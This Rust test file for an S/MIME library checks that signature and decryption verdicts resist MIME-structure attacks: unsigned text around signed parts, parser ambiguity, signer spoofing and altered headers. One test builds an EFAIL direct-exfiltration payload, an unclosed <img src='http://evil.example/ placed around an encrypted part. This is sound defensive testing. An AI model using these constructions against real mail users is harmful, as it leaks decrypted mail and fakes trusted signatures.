//! SIG-14, SIG-15, SIG-19, ENC-02, ENC-18: protected parts beside, around and inside of others.

use crate::faces::Faces;
use smime::policy::StandardPolicy;
use smime::report::{Encryption, HeaderProtection, SignerStatus};

use crate::ca::Key;
use crate::forge::*;
use crate::people::{CAROL, Person, mail_to, now, person, protector};
use crate::tools::*;

/// multipart/signed as a part, with its own header.
fn signed_part(part: &str) -> String {
    let mut detached = Signed::new(part.as_bytes(), &[&alice()]);
    detached.carried = None;
    let mail = detached_mail("", part, &detached.build());
    String::from_utf8(mail)
        .unwrap()
        .replace("MIME-Version: 1.0\r\n", "")
        // With what stands before it, because base64 may hold the two letters alone.
        .replace("\"b0\"", "\"inner\"")
        .replace("--b0", "--inner")
}

fn mixed(kind: &str, parts: &[&str]) -> String {
    let parts: Vec<String> = parts
        .iter()
        .map(|part| format!("--outer\r\n{part}\r\n"))
        .collect();
    format!(
        "{HEADERS}MIME-Version: 1.0\r\nContent-Type: multipart/{kind}; boundary=outer\r\n\r\n\
         preamble nobody signed\r\n{}--outer--\r\nepilogue nobody signed\r\n",
        parts.concat()
    )
}

/// Variants after "Johnny, you are fired" (m1 to m4): text around a signed part is never covered by its signature.
#[test]
fn sig_14_unsigned_text_around_signed_parts() {
    let signed = signed_part(PART);
    let evil = "Content-Type: text/html\r\n\r\n<b>pay to another account</b><style>.s{display:none}</style>";
    for (name, mail) in [
        ("before", mixed("mixed", &[evil, &signed])),
        ("after", mixed("mixed", &[&signed, evil])),
        ("related", mixed("related", &[evil, &signed])),
        ("alternative", mixed("alternative", &[&signed, evil])),
        (
            "forwarded",
            mixed(
                "mixed",
                &[
                    evil,
                    &format!("Content-Type: message/rfc822\r\n\r\n{HEADERS}{signed}"),
                ],
            ),
        ),
    ] {
        let opened = open(&mail);
        assert_verdict(&opened, "untrusted", name);
        let message = shown(&opened).unwrap();
        let of = |needle: &str, media_type: &str| {
            message
                .parts()
                .iter()
                .filter(|part| part.media_type() == media_type)
                .find(|part| String::from_utf8_lossy(part.bytes()).contains(needle))
                .unwrap_or_else(|| panic!("{name}: no part with {needle}"))
                .protection()
        };
        let good = of("Hello Bob", "text/plain");
        assert!(good.signature().is_some(), "{name}");
        let bad = of("another account", "text/html");
        assert_eq!(bad.signature(), None, "{name}");
        assert!(
            fails_with(&opened, "part of the message is protected")
                || told(&opened).contains("part of the message is protected"),
            "{name}\n{}",
            opened.report()
        );
    }
}

/// The signed part as an attachment, as a picture that unsigned HTML shows, as a frame of it, or with text slipped into it.
#[test]
fn sig_14_signed_parts_that_are_attached_or_referred_to() {
    let signed = signed_part(PART);
    let with =
        |field: &str| signed.replacen("Content-Type:", &format!("{field}\r\nContent-Type:"), 1);
    let html = |body: &str| format!("Content-Type: text/html\r\n\r\n{body}another account");
    let attached = with("Content-Disposition: attachment; filename=\"real.eml\"");
    let inline = with("Content-ID: <s@x>");
    for (name, mail) in [
        ("attachment", mixed("mixed", &[&html(""), &attached])),
        ("attachment first", mixed("mixed", &[&attached, &html("")])),
        (
            "picture",
            mixed("related", &[&html("<img src=\"cid:s@x\">"), &inline]),
        ),
        (
            "frame",
            mixed(
                "related; start=\"<s@x>\"",
                &[&html("<iframe src=\"cid:s@x\"></iframe>"), &inline],
            ),
        ),
        ("digest", mixed("digest", &[&html(""), &signed])),
        (
            "comment",
            mixed("mixed", &[&html("<!--"), &signed, &html("-->")]),
        ),
    ] {
        let opened = open(&mail);
        assert_verdict(&opened, "untrusted", name);
        let message = shown(&opened).unwrap();
        for part in message.parts() {
            let text = String::from_utf8_lossy(part.bytes());
            let evil = text.contains("another account");
            assert!(
                !evil || part.protection().signature().is_none(),
                "{name}: {text}"
            );
        }
        assert!(
            opened.report().signer().is_none(),
            "{name}\n{}",
            opened.report()
        );
    }
    // Into the part itself: that is a change.
    let mut detached = Signed::new(PART.as_bytes(), &[&alice()]);
    detached.carried = None;
    let evil = format!("{PART}\r\nanother account");
    let opened = open(detached_mail(HEADERS, &evil, &detached.build()));
    assert_verdict(&opened, "withheld", "inside");
}

/// Text beside the two parts of multipart/signed is nobody's.
#[test]
fn sig_14_preamble_and_epilogue_are_not_content() {
    let mut detached = Signed::new(PART.as_bytes(), &[&alice()]);
    detached.carried = None;
    let mail = String::from_utf8(detached_mail(HEADERS, PART, &detached.build())).unwrap();
    let around = mail.replacen(
        "\r\n\r\n--b0\r\n",
        "\r\n\r\npay to another account\r\n--b0\r\n",
        1,
    ) + "pay to another account\r\n";
    assert_ne!(around, mail);
    let opened = open(&around);
    assert_verdict(&opened, "trusted", "the signed part is good");
    let message = opened.trusted().unwrap();
    assert_eq!(message.bytes(), PART.as_bytes());
    assert!(
        message
            .parts()
            .iter()
            .all(|part| !String::from_utf8_lossy(part.bytes()).contains("another account"))
    );
    // A third part is not a multipart/signed any more.
    let third = mail.replace(
        "\r\n--b0--",
        "\r\n--b0\r\nContent-Type: text/plain\r\n\r\nmore\r\n--b0--",
    );
    match opener().open_all(third.as_bytes()) {
        Ok(opened) => assert_ne!(verdict(&opened), "trusted", "{}", opened.report()),
        Err(error) => assert!(!error.to_string().is_empty()),
    }
}

/// Where two parsers could see two structures there is one, or an error, and never a trusted verdict on what was not signed.
#[test]
fn sig_15_one_structure_or_none() {
    let mut detached = Signed::new(PART.as_bytes(), &[&alice()]);
    detached.carried = None;
    let mail = String::from_utf8(detached_mail(HEADERS, PART, &detached.build())).unwrap();
    let boundary = "boundary=\"b0\"";
    let bent = [
        (
            "two boundaries",
            mail.replace(boundary, "boundary=\"b0\"; boundary=\"b1\""),
        ),
        (
            "two content types",
            mail.replace(
                "MIME-Version: 1.0\r\n",
                "MIME-Version: 1.0\r\nContent-Type: text/html\r\n",
            ),
        ),
        (
            "NUL in the boundary",
            mail.replace(boundary, "boundary=\"b0\0\""),
        ),
        (
            "RFC 2231 beside plain",
            mail.replace(boundary, "boundary=\"b0\"; boundary*=us-ascii''b1"),
        ),
        ("empty boundary", mail.replace(boundary, "boundary=\"\"")),
    ];
    for (name, mail) in bent {
        match opener().open_all(mail.as_bytes()) {
            Ok(opened) => {
                if verdict(&opened) == "trusted" {
                    assert_eq!(opened.trusted().unwrap().bytes(), PART.as_bytes(), "{name}");
                }
            }
            Err(error) => assert!(!error.to_string().is_empty(), "{name}"),
        }
    }
    // A delimiter that is the beginning of another line is none.
    let part = "Content-Type: text/plain\r\n\r\n--b0x\r\nHello\r\n --b0\r\n--b";
    let mut detached = Signed::new(part.as_bytes(), &[&alice()]);
    detached.carried = None;
    let opened = open(detached_mail(HEADERS, part, &detached.build()));
    assert_verdict(&opened, "trusted", "near misses");
    assert_eq!(opened.trusted().unwrap().bytes(), part.as_bytes());
}

/// Direct exfiltration (EFAIL): the decrypted text is never joined to what stands around it.
#[test]
fn enc_02_a_decrypted_part_is_handed_out_alone() {
    let protected = protector()
        .encrypt_to([bob_rsa().certificate()])
        .not_to_self()
        .protect(mail_to("To: bob@example.org\r\n").as_str())
        .unwrap();
    let mail = String::from_utf8(protected.copies()[0].bytes().to_vec()).unwrap();
    let at = mail.find("Content-Type: application/pkcs7-mime").unwrap();
    let attack = mixed(
        "mixed",
        &[
            "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/",
            mail[at..].trim_end(),
            "Content-Type: text/html\r\n\r\n\">",
        ],
    );
    let opened = open(&attack);
    assert_verdict(&opened, "unsigned", "exfiltration");
    let message = shown(&opened).unwrap();
    let secret = message
        .parts()
        .iter()
        .find(|part| String::from_utf8_lossy(part.bytes()).contains("Hello Bob"))
        .expect("the decrypted part is there");
    let text = String::from_utf8_lossy(secret.bytes()).into_owned();
    assert!(!text.contains("evil.example"));
    assert_eq!(
        secret.protection().encryption(),
        Encryption::Unauthenticated
    );
    assert!(
        !String::from_utf8_lossy(message.bytes()).contains("Hello Bob"),
        "the whole holds the ciphertext only"
    );
    assert!(
        told(&opened).contains("part of the message is protected"),
        "{}",
        opened.report()
    );
}

/// What Alice wrote to Bob, encrypted by Bob to Carol: the signed header shows it.
#[test]
fn enc_18_a_message_meant_for_somebody_else() {
    let part = "From: alice@example.org\r\nTo: dave@example.org\r\nSubject: Q3\r\n\
                Content-Type: text/plain; hp=\"clear\"\r\n\r\nHello Dave";
    let inner = opaque_mail("", &Signed::new(part.as_bytes(), &[&alice()]).build());
    let key = [7; 16];
    let iv = [9; 16];
    let bob = bob_rsa();
    let envelope = Enveloped {
        kind: ENVELOPED,
        recipients: vec![key_transport(
            bob.certificate().to_der(),
            &rsa_pkcs1(&bob, &key),
        )],
        content_type: DATA,
        algorithm: aes_128_cbc_id(&iv),
        ciphertext: aes_128_cbc(&key, &iv, &inner),
        attributes: Vec::new(),
        mac: None,
    };
    let opened = open(opaque_mail(HEADERS, &envelope.build()));
    assert_verdict(&opened, "trusted", "the signature is Alice's");
    let report = opened.report();
    let to = report
        .protected_headers()
        .iter()
        .find(|field| field.name().eq_ignore_ascii_case("to"))
        .expect("the signed To is reported");
    assert_eq!(to.value(), "dave@example.org");
    let text = told(&opened);
    assert!(
        text.contains("wrote to dave@example.org and not to you"),
        "{text}"
    );
}

#[test]
fn sig_19_a_changed_subject_is_seen() {
    let part = "From: Alice <alice@example.org>\r\nTo: bob@example.org\r\nSubject: Q3\r\n\
                Content-Type: text/plain; hp=\"clear\"\r\n\r\nHello Bob";
    let signed = Signed::new(part.as_bytes(), &[&alice()]).build();
    let opened = open(opaque_mail(HEADERS, &signed));
    assert_verdict(&opened, "trusted", "the same");
    assert_eq!(opened.report().header_protection(), HeaderProtection::Clear);
    assert!(!told(&opened).contains("header field Subject"));

    let changed = HEADERS.replace("Subject: Q3", "Subject: Q4");
    let opened = open(opaque_mail(&changed, &signed));
    let report = told(&opened);
    assert!(report.contains("header field Subject"), "{report}");
    let status = opened.report().layers()[0].signers()[0].status();
    assert!(status == SignerStatus::Trusted || verdict(&opened) == "untrusted");
}

/// Alice signs what she forwards, without saying that it is forwarded: the report does not call its header hers.
#[test]
fn sig_19_the_header_of_a_forwarded_message_is_not_the_signers() {
    let part = "Content-Type: message/rfc822\r\n\r\nFrom: Boss <boss@example.org>\r\nSubject: pay now\r\n\
                Content-Type: text/plain\r\n\r\nHello Alice";
    let signed = Signed::new(part.as_bytes(), &[&alice()]).build();
    let opened = open(opaque_mail(HEADERS, &signed));
    assert_verdict(&opened, "trusted", "Alice signed it");
    let report = opened.report();
    assert_eq!(report.header_protection(), HeaderProtection::None);
    assert!(report.protected_headers().is_empty());
    assert!(!report.to_string().contains("believe"), "{report}");
}

/// Nothing of what is kept back stands in the report: header fields, recipients, parts, what is signed inside.
#[test]
fn sig_19_a_report_tells_nothing_of_withheld_content() {
    let nested = signed_part("Content-Type: application/x-secret\r\n\r\nHello Bob");
    let part = format!(
        "From: alice@example.org\r\nTo: dave@secret.example\r\nSubject: secret\r\nX-Secret: 1\r\n\
         Content-Type: multipart/x-secret; boundary=s; hp=\"clear\"\r\n\r\n--s\r\n{nested}\r\n\
         --s\r\nContent-Type: multipart/signed; boundary=secret\r\n\r\n--s--\r\n"
    );
    let mut signed = Signed::new(b"something else", &[&alice()]);
    signed.carried = Some(part.clone().into_bytes());
    let inner = opaque_mail("", &signed.build());
    let (key, iv, bob) = ([7; 16], [9; 16], bob_rsa());
    let envelope = Enveloped {
        kind: ENVELOPED,
        recipients: vec![key_transport(
            bob.certificate().to_der(),
            &rsa_pkcs1(&bob, &key),
        )],
        content_type: DATA,
        algorithm: aes_128_cbc_id(&iv),
        ciphertext: aes_128_cbc(&key, &iv, &inner),
        attributes: Vec::new(),
        mac: None,
    };
    let opened = open(opaque_mail(HEADERS, &envelope.build()));
    assert_verdict(&opened, "withheld", "other content");
    let report = opened.report();
    assert!(report.protected_headers().is_empty());
    assert_eq!(report.header_protection(), HeaderProtection::None);
    assert!(report.parts().is_empty());
    assert_eq!(report.layers().len(), 2, "{report}");
    let mut texts = vec![report.to_string(), report.headline()];
    #[cfg(feature = "serde")]
    texts.push(serde_json::to_string(report).unwrap());
    for text in texts.drain(..) {
        assert!(!text.to_lowercase().contains("secret"), "{text}");
        assert!(!text.contains("believe"), "{text}");
    }
    // The caller who insists gets it all the same.
    let smime::open::Content::Withheld(withheld) = opened.content() else {
        panic!("not withheld");
    };
    assert_eq!(withheld.dangerous().bytes(), part.as_bytes());
    assert!(withheld.dangerous().parts().len() > 1);
}

/// The signer of a message that was forwarded is not the one of the mail around it.
#[test]
fn sig_14_a_forwarded_signature_does_not_stand_for_the_mail() {
    let forwarded = format!(
        "Content-Type: message/rfc822\r\n\r\n{HEADERS}{}",
        signed_part(PART)
    );
    let plain = mixed(
        "mixed",
        &["Content-Type: text/plain\r\n\r\npay", &forwarded],
    );
    let opened = open(&plain);
    let part = opened.report().layers()[0].signers();
    assert_eq!(part[0].status(), SignerStatus::Trusted);
    assert!(opened.report().signer().is_none(), "{}", opened.report());
    let headline = opened.report().headline();
    assert!(headline.contains("part of the message"), "{headline}");

    // Carol signs as Alice, and forwards what Alice signed.
    let carol = crate::people::person(crate::ca::Key::P256, crate::people::CAROL);
    let (_, content) = plain.split_once("MIME-Version: 1.0\r\n").unwrap();
    let signed = Signed::new(content.as_bytes(), &[&carol]).build();
    let opened = open(opaque_mail(HEADERS, &signed));
    assert_verdict(&opened, "untrusted", "Carol is not From");
    let signer = opened.report().signer().unwrap();
    assert_eq!(signer.status(), SignerStatus::Untrusted);
    assert_eq!(signer.certificate(), Some(carol.certificate()));
    let headline = opened.report().headline();
    assert!(headline.contains("carol@example.org, not"), "{headline}");
}

#[test]
fn sig_15_text_around_armoured_cms_does_not_vanish() {
    let alice = alice();
    let mut bundle = Signed::new(b"", &[&alice]);
    bundle.carried = None;
    bundle.signers.clear();
    let bundle = bundle.build();
    let mut inner = Signed::new(b"Content-Type: text/plain\r\n\r\nshort", &[&alice]).build();
    inner.extend([0, 0]);
    let pem = |cms: &[u8]| {
        let text = base64(cms);
        format!("-----BEGIN PKCS7-----\r\n{text}\r\n-----END PKCS7-----\r\n")
    };
    let texts = [
        pem(&bundle),
        pem(&bundle) + "I owe you 100.\r\n",
        format!("I owe you 100.\r\n{}", pem(&bundle)),
        pem(&bundle) + &pem(&bundle),
        pem(&inner) + "I owe you 100.\r\n",
        pem(&inner) + &pem(&bundle),
    ];
    for text in texts {
        for header in ["Content-Type: text/plain\r\n", "X-Nothing: at all\r\n"] {
            let part = format!("{header}\r\n{text}");
            let mut signed = Signed::new(part.as_bytes(), &[&alice]);
            signed.carried = None;
            let opened = open(detached_mail(HEADERS, &part, &signed.build()));
            assert_verdict(&opened, "trusted", &text);
            let message = shown(&opened).unwrap();
            assert_eq!(message.bytes(), part.as_bytes(), "{text}");
        }
        // The same in a mail that nobody signed.
        let mail = format!("{HEADERS}MIME-Version: 1.0\r\n\r\n{text}");
        let message = shown(&open(&mail)).unwrap();
        assert_eq!(message.bytes(), mail.as_bytes(), "{text}");
    }
    // A text that is nothing but a signed message is opened.
    let mail = format!("{HEADERS}MIME-Version: 1.0\r\n\r\n{}", pem(&inner));
    let opened = open(&mail);
    assert_verdict(&opened, "trusted", "armoured");
    assert!(shown(&opened).unwrap().bytes().ends_with(b"short"));
}

/// A receipt or a time-stamp over the octets of a part is no signature of who wrote it.
#[test]
fn sig_15_only_data_is_signed_in_multipart_signed() {
    let alice = alice();
    for (kind, expected) in [
        (DATA, "trusted"),
        // id-ct-receipt, id-ct-TSTInfo, id-signedData.
        ("1.2.840.113549.1.9.16.1.1", "untrusted"),
        ("1.2.840.113549.1.9.16.1.4", "untrusted"),
        (SIGNED, "untrusted"),
    ] {
        let mut signed = Signed::new(PART.as_bytes(), &[&alice]).signer(|signer| {
            let content_type = attribute(CONTENT_TYPE, &[crate::ca::oid(kind)]);
            signer.without(CONTENT_TYPE).with(content_type)
        });
        signed.content_type = kind;
        signed.carried = None;
        let opened = open(detached_mail(HEADERS, PART, &signed.build()));
        assert_verdict(&opened, expected, kind);
        assert_eq!(shown(&opened).unwrap().bytes(), PART.as_bytes());
        assert_eq!(fails_with(&opened, "not MIME"), expected == "untrusted");
    }
}

/// What cannot be read is still there: as bytes, and covered by what is around it.
#[test]
fn sig_14_a_part_that_cannot_be_read_does_not_vanish() {
    let twice = "Content-Type: multipart/mixed; boundary=a\r\n\
                 Content-Type: multipart/mixed; boundary=b\r\n\r\n--a\r\n\r\none\r\n--a--";
    let content = format!(
        "Content-Type: multipart/mixed; boundary=o\r\n\r\n--o\r\n\r\nHello\r\n--o\r\n{twice}\r\n--o\r\n\
         Content-Type: message/rfc822\r\n\r\n{twice}\r\n--o--\r\n"
    );
    let signed = opaque_mail(
        HEADERS,
        &Signed::new(content.as_bytes(), &[&alice()]).build(),
    );
    let plain = format!("{HEADERS}MIME-Version: 1.0\r\n{content}").into_bytes();
    for (mail, expected, status) in [
        (plain, "unsigned", None),
        (signed, "trusted", Some(SignerStatus::Trusted)),
    ] {
        let opened = open(&mail);
        assert_verdict(&opened, expected, "");
        let message = shown(&opened).unwrap();
        let parts = message.parts();
        let seen: Vec<_> = parts.iter().map(|p| (p.path(), p.media_type())).collect();
        let octets = "application/octet-stream";
        assert_eq!(
            seen,
            [
                ("", "multipart/mixed"),
                ("1", "text/plain"),
                ("2", octets),
                ("3", "message/rfc822"),
                ("3.1", octets),
            ]
        );
        for part in [&parts[2], &parts[4]] {
            assert_eq!(part.bytes(), twice.as_bytes());
            assert_eq!(part.decoded().unwrap(), twice.as_bytes());
            assert_eq!(part.protection().signature(), status);
        }
        assert!(told(&opened).contains("part 2 was not opened"));
    }
}

/// A signer who is trusted in one part does not lend it to a whole that somebody else signed around it.
#[test]
fn sig_14_a_trusted_part_does_not_speak_for_the_whole() {
    let carol = person(Key::P256, CAROL);
    let whole = format!(
        "Content-Type: multipart/mixed; boundary=outer\r\n\r\n--outer\r\n\
         Content-Type: text/plain\r\n\r\npay to another account\r\n--outer\r\n{}\r\n--outer--\r\n",
        signed_part(PART)
    );
    let by = |person: &Person| {
        let signed = Signed::new(whole.as_bytes(), &[person]);
        opaque_mail(HEADERS, &signed.build())
    };
    assert_verdict(&open(by(&alice())), "trusted", "Alice signed it all");
    let mail = by(&carol);
    let opened = open(&mail);
    assert_verdict(&opened, "untrusted", "Carol around Alice");
    let signers: Vec<SignerStatus> = opened
        .report()
        .layers()
        .iter()
        .flat_map(|layer| layer.signers())
        .map(|signer| signer.status())
        .collect();
    assert_eq!(signers, [SignerStatus::Untrusted, SignerStatus::Trusted]);
    // Nor does it meet a demand for the whole.
    let strict = opener().policy(StandardPolicy::at(now()).require_signature());
    let opened = strict.open_all(&mail).unwrap();
    assert!(
        fails_with(&opened, "signature is required"),
        "{}",
        opened.report()
    );
}

/// Carol signs a header of Alice's, and puts her own around it: her signature is good, and the two readings differ.
#[test]
fn sig_19_another_from_inside_takes_the_trust_away() {
    let carol = person(Key::P256, CAROL);
    let outer = HEADERS.replace("Alice <alice@example.org>", CAROL);
    for (inner, expected) in [(CAROL, "trusted"), ("alice@example.org", "untrusted")] {
        let part = format!(
            "From: {inner}\r\nTo: bob@example.org\r\nSubject: Q3\r\n\
             Content-Type: text/plain; hp=\"clear\"\r\n\r\nHello Bob"
        );
        let signed = Signed::new(part.as_bytes(), &[&carol]).build();
        assert_verdict(&open(opaque_mail(&outer, &signed)), expected, inner);
    }
}
